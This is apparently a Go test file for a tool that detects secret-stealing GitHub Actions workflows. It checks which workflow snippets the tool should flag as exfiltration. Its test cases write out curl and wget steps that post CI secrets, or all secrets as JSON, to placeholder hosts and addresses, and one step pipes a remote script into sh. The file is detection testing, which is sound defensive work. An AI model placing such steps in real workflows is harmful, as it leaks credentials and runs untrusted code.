package detect

import (
	"slices"
	"strings"
	"testing"

	"pentimento/internal/campaign"
)

func TestFinding(t *testing.T) {
	findings, _ := known(t)
	f := findings[oid("b", "evil1")]
	if f.Campaign != "ghostaction" || f.Hits[0].Rule != "ghostaction/form-post" || f.Hits[0].Severity != "critical" || !slices.Contains(f.Hits[0].Lines, 10) {
		t.Errorf("hits: %+v", f.Hits)
	}
	if !slices.Equal(f.SecretNames(), []string{"NPM_TOKEN"}) || !slices.Equal(f.Destinations, []string{"192.0.2.1"}) || len(f.Triggers) != 2 {
		t.Errorf("%+v", f)
	}
	if len(f.Leaks) != 1 || f.Leaks[0].JobName != "send-secrets" || f.Leaks[0].StepIndex != 0 || !slices.Equal(f.Leaks[0].Secrets, []string{"NPM_TOKEN"}) ||
		!strings.HasPrefix(f.Leaks[0].StepName, "Run curl -s") {
		t.Errorf("leaks: %+v", f.Leaks)
	}
	if q := findings[oid("b", "quiet")]; q.Campaign != "" || len(q.Hits) != 1 || q.Hits[0].Rule != "heuristic/secrets-posted-to-bare-host" {
		t.Errorf("heuristic: %+v", q)
	}
}

func TestVersionsJoinsPathsOfABlob(t *testing.T) {
	_, packs := known(t)
	text := []byte(evil("192.0.2.1"))
	got := Versions([]Version{
		{Blob: "bb", Paths: []string{"z", "a"}, Text: text}, {Blob: "aa", Paths: []string{"m"}, Text: text}, {Blob: "bb", Paths: []string{"a", "b"}, Text: text},
	}, packs)
	if len(got) != 2 || got[0].Blob != "aa" || !slices.Equal(got[1].Paths, []string{"a", "b", "z"}) {
		t.Fatalf("%+v", got)
	}
}

// run is a workflow of one job with one step.
func run(script string) string {
	return "on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: |\n          " + strings.ReplaceAll(script, "\n", "\n          ") + "\n"
}

func TestBenignAndNot(t *testing.T) {
	const two = "A=${{ secrets.A }}&B=${{ secrets.B }}"
	for name, c := range map[string]struct {
		script string
		want   bool
	}{
		"two secrets to a bare host":      {"curl -d '" + two + "' https://drop.example.invalid", true},
		"two secrets to an address":       {"curl -d '" + two + "' http://198.51.100.3:8080/", true},
		"by wget":                         {"wget -qO- --post-data='" + two + "' http://198.51.100.3", true},
		"as JSON":                         {`curl --json '{"A":"${{ secrets.A }}","B":"${{ secrets.B }}"}' http://198.51.100.3`, true},
		"one secret":                      {"curl -d 'A=${{ secrets.A }}' https://drop.example.invalid", false},
		"one of two is the job's token":   {"curl -d 'A=${{ secrets.A }}&GITHUB_TOKEN=${{ secrets.GITHUB_TOKEN }}' https://drop.example.invalid", false},
		"a log-in":                        {"curl -d 'username=${{ secrets.A }}&password=${{ secrets.B }}' https://hub.example.invalid/v2/users/login/", false},
		"own names, a path":               {"curl -d '" + two + "' https://api.example.invalid/v1/deploy", false},
		"in headers":                      {"curl -H 'A: ${{ secrets.A }}' -H 'B: ${{ secrets.B }}' https://api.example.invalid", false},
		"a service container":             {"curl -d '" + two + "' http://localhost:8080", false},
		"the runner's network":            {"curl -d '" + two + "' http://10.0.0.5", false},
		"a service by name":               {"curl -d '" + two + "' http://vault:8200", false},
		"chat message":                    {`curl -X POST -d '{"text":"done"}' ${{ secrets.CHAT_URL }}`, false},
		"secrets for the script, no post": {"A=${{ secrets.A }} B=${{ secrets.B }} ./deploy.sh\ncurl https://status.example.invalid", false},
	} {
		_, packs := known(t)
		got := Versions([]Version{{Blob: "b", Paths: []string{".github/workflows/ci.yml"}, Text: []byte(run(c.script))}}, packs)
		if (len(got) > 0) != c.want {
			t.Errorf("%s: %+v", name, got)
		}
	}
}

func TestLeaks(t *testing.T) {
	_, packs := known(t)
	listedHost := packs[0].Indicators.Hosts[0]
	for name, c := range map[string]struct{ text, steps, secrets string }{
		"the step that sends": {run("make ${{ secrets.OTHER }}\ncurl -d ${{ secrets.A }} https://" + listedHost), "0", "A"},
		"all of them":         {run("curl -d '${{ toJSON(secrets) }}' https://" + listedHost), "0", "*"},
		"in a file that cannot be followed": {run("./pack ${{ secrets.A }}") + "      - run: curl -T x https://" + listedHost +
			"\n      - run: echo ${{ secrets.B }}\n", "1", ""},
		"an action's input": {run("curl -d x=${{ secrets.HOOK }} $URL") + "      - uses: x/login@v1\n        with: {registry: hub.example.invalid, password: '${{ secrets.B }}'}\n" +
			"      - uses: x/http@v1\n        with: {url: 'https://" + listedHost + "', data: '${{ secrets.A }}'}\n", "2", "A"},
		"no destination in a step with secrets": {run("curl https://"+listedHost+"/x | sh") + "      - run: echo ${{ secrets.B }}\n", "1", "B"},
	} {
		got := Versions([]Version{{Blob: "b", Text: []byte(c.text)}}, packs)
		if len(got) != 1 {
			t.Fatalf("%s: %+v", name, got)
		}
		var steps, secrets []string
		for _, l := range got[0].Leaks {
			steps = append(steps, string(rune('0'+l.StepIndex)))
			secrets = append(secrets, l.Secrets...)
			if l.AllSecrets {
				secrets = append(secrets, "*")
			}
		}
		if strings.Join(steps, ",") != c.steps || strings.Join(secrets, ",") != c.secrets {
			t.Errorf("%s: %+v", name, got[0].Leaks)
		}
	}
}

func BenchmarkVersions(b *testing.B) {
	packs, err := campaign.Builtin()
	if err != nil {
		b.Fatal(err)
	}
	text := []byte(evil("192.0.2.1"))
	for b.Loop() {
		Versions([]Version{{Blob: "b", Paths: []string{listed}, Text: text}}, packs)
	}
}
